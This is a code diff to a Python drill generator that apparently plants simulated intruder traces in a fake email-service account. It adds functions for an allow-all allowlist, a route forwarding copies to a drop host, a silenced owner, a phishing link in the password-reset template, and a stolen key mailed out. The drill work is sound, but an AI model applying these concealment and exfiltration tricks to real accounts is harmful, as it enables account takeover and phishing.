@@ -16,6 +16,7 @@ from workbench.drill.world.records import (
     Member,
     Region,
     Route,
+    Sent,
     Suppression,
     Tenant,
     World,
@@ -214,6 +215,94 @@ def _allowlist(garden: Garden) -> None:
     garden.note(network, "allowlist", ["global"], "vpn")
 
 
+def _allow_all(garden: Garden) -> None:
+    """Put the whole internet on the list beside the customer's servers: it looks filled and protects nothing."""
+    garden.main.allowlist = [Allowed(host.ip, host.name) for host in garden.story.hosts]
+    garden.main.allowlist.append(Allowed("0.0.0.0/0", "office and cloud"))
+    garden.note("0.0.0.0/0", "allowlist", ["global"], "office and cloud")
+
+
+def _raised_limit(garden: Garden) -> None:
+    for region, area in garden.main.regions.items():
+        area.custom_limit = 900_000
+        garden.note(f"{region}-monthly", "limit", [region], "monthly limit", limit=900_000)
+        return
+
+
+def _edited_route(garden: Garden) -> None:
+    """Have the customer's own support route send a copy away; editing it leaves no date."""
+    for region, area in garden.main.regions.items():
+        for route in area.routes.values():
+            if "match_recipient('support@" in route.expression:
+                route.actions = [
+                    *route.actions[:1],
+                    f'forward("https://{DROP_HOST}/copy")',
+                    *route.actions[1:],
+                ]
+                garden.note(route.id, "route", [region], route.description, edited=True)
+                return
+
+
+def _wildcard(garden: Garden) -> None:
+    region, domain = garden.pick(1)
+    domain.wildcard = True
+    garden.note(f"{domain.name} wildcard", "domain-setting", [region, domain.name], "wildcard")
+
+
+def _emptied_complaints(garden: Garden) -> None:
+    region, domain = garden.pick(0)
+    domain.complaints.clear()
+    garden.note(f"complaints {domain.name}", "suppressions-emptied", [region, domain.name], domain.name)
+
+
+def _silenced_victim(garden: Garden) -> None:
+    """Put the owner on the unsubscribes: warnings that the customer's programs mail no longer arrive."""
+    region, domain = garden.pick(0)
+    owner = next(user for user in garden.story.users if user.is_owner)
+    domain.unsubscribes[owner.email] = Suppression(owner.email, garden.tick(), {"tags": ["*"]})
+    garden.note(f"unsubscribes {owner.email}", "suppression", [region, domain.name], owner.email)
+
+
+def _template_body(garden: Garden) -> None:
+    """Edit the password-reset mail so that it leads to the intruder's page; its headers stay as they were."""
+    for region, domain in garden.domains():
+        template = domain.templates.get("password-reset")
+        if template is not None:
+            version = next(iter(template.versions.values()))
+            link = f'<p><a href="https://login.{DROP_HOST.partition(".")[2]}/reset">Choose a new password</a></p>'
+            version.template = version.template.replace("</body>", f"{link}</body>")
+            garden.note(template.id, "template", [region, domain.name], template.name, version=version.tag)
+            return
+
+
+def _renamed(garden: Garden) -> None:
+    """Rename the organisation; no call shows its name, so it is no planted thing that a sweep can point to."""
+    garden.main.name = "Mail Security Operations"
+
+
+def _loot_mail(garden: Garden) -> None:
+    """A test message to a drop mailbox with the loot in its subject: the intruder tries whether the key sends."""
+    stolen = garden.story.stolen_key
+    domains = garden.domains()
+    if stolen is None or not domains:
+        return
+    region, domain = domains[0]
+    sent = Sent(
+        f"loot{hexes(garden.rng, 12)}",
+        garden.main.id,
+        region,
+        domain.name,
+        garden.tick(),
+        "http",
+        stolen.id,
+        garden.story.intruder_ips[0],
+        f"test@{domain.name}",
+        [f"drop@{DROP_HOST.partition('.')[2]}"],
+        f"works {stolen.secret}",
+    )
+    garden.world.sent.append(sent)
+
+
 _MAKERS: dict[str, Callable[[Garden], None]] = {
     "subaccount": _subaccount,
     "route": _route,
@@ -228,5 +317,16 @@ _MAKERS: dict[str, Callable[[Garden], None]] = {
     "unsubscribe-footer": _footer,
     "alert": _alert,
     "allowlist": _allowlist,
+    "allow-all": _allow_all,
+    "raised-limit": _raised_limit,
+    "edited-route": _edited_route,
+    "wildcard": _wildcard,
+    "emptied-complaints": _emptied_complaints,
+    "silenced-victim": _silenced_victim,
+    "template-body": _template_body,
+    "renamed": _renamed,
+    "loot-mail": _loot_mail,
 }
-_NEED_NO_DOMAIN = frozenset({"subaccount", "allowlist", "sandbox-recipient"})
+_NEED_NO_DOMAIN = frozenset(
+    {"subaccount", "allowlist", "sandbox-recipient", "allow-all", "raised-limit", "renamed"}
+)
